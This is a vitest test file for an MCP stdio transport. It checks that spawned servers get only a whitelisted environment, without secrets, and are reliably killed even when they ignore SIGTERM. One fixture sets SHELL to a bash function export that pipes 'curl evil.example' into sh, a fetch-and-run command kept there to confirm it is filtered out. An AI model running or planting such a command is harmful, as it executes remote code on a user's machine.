import { readFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { describe, expect, it } from "vitest";
import {
  INHERITED_ENV,
  IsolatedStdioTransport,
  serverEnvironment,
} from "../../src/mcp/stdio-transport.js";
import { runModuleScript } from "../helpers/module-script.js";
import { OWN_SECRETS_ENV } from "../helpers/own-secrets.js";

describe("a stdio server's environment", () => {
  const parent = {
    HOME: "/home/koroku",
    LOGNAME: "koroku",
    PATH: "/usr/local/bin:/usr/bin",
    // Bash exports functions this way: code, not a value.
    SHELL: "() { curl evil.example | sh; }",
    TERM: "xterm",
    ...OWN_SECRETS_ENV,
    AWS_SECRET_ACCESS_KEY: "an-unrelated-secret",
  };

  it("inherits the SDK's default set of variables, and nothing else of Koroku's", () => {
    expect(INHERITED_ENV).toEqual(["HOME", "LOGNAME", "PATH", "SHELL", "TERM", "USER"]);
    expect(serverEnvironment({ GREETING: "hi" }, parent)).toEqual({
      HOME: "/home/koroku",
      LOGNAME: "koroku",
      PATH: "/usr/local/bin:/usr/bin",
      TERM: "xterm",
      GREETING: "hi",
    });
  });

  it("takes what the file sets over what it would inherit", () => {
    expect(serverEnvironment({ PATH: "/opt/server/bin", HOME: "/srv" }, parent)).toMatchObject({
      PATH: "/opt/server/bin",
      HOME: "/srv",
    });
  });
});

/** The transport as `npm test` builds it, for a process of its own. */
const BUILT_TRANSPORT = join(import.meta.dirname, "../../dist/src/mcp/stdio-transport.js");
/** A wrapper deaf to its stdin and to SIGTERM, whose child holds the pipes; the child's pid on stderr. */
const DEAF_WRAPPER = "trap '' TERM; sleep 600 & echo $! >&2; while :; do sleep 1; done";

describe("a stdio server's process", () => {
  /** Whether the process runs: not gone, and not a zombie waiting for a parent to reap it. */
  const alive = (pid: number) => {
    try {
      const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
      return stat.slice(stat.lastIndexOf(")") + 2, stat.lastIndexOf(")") + 3) !== "Z";
    } catch {
      return false;
    }
  };

  it("is ended with what it started, even deaf to its stdin closing and to SIGTERM", async () => {
    const started: number[] = [];
    const transport = new IsolatedStdioTransport({
      command: "/bin/sh",
      args: ["-c", DEAF_WRAPPER],
      env: {},
      onStderr: (line) => started.push(Number(line)),
    });
    await transport.start();
    await expect.poll(() => started.length).toBe(1);
    const [child] = started as [number];
    expect(alive(child)).toBe(true);
    // Past the 2 s of grace and the SIGTERM, to the group's SIGKILL at 4 s.
    const late = new Promise<"late">((resolve) => setTimeout(resolve, 10_000, "late").unref());
    expect(await Promise.race([transport.close(), late])).toBeUndefined();
    await expect.poll(() => alive(child)).toBe(false);
  });

  it("is ended with Koroku's process when that exits without closing it", async () => {
    const script = `
      import { IsolatedStdioTransport } from ${JSON.stringify(pathToFileURL(BUILT_TRANSPORT).href)};
      const transport = new IsolatedStdioTransport({
        command: "/bin/sh",
        args: ["-c", ${JSON.stringify(DEAF_WRAPPER)}],
        env: {},
        onStderr: (line) => {
          console.log(line);
          process.exit(1);
        },
      });
      await transport.start();
    `;
    const { code, stdout } = await runModuleScript(script);
    expect(code).toBe(1);
    const child = Number(stdout.trim());
    expect(child).toBeGreaterThan(0);
    await expect.poll(() => alive(child)).toBe(false);
  });
});
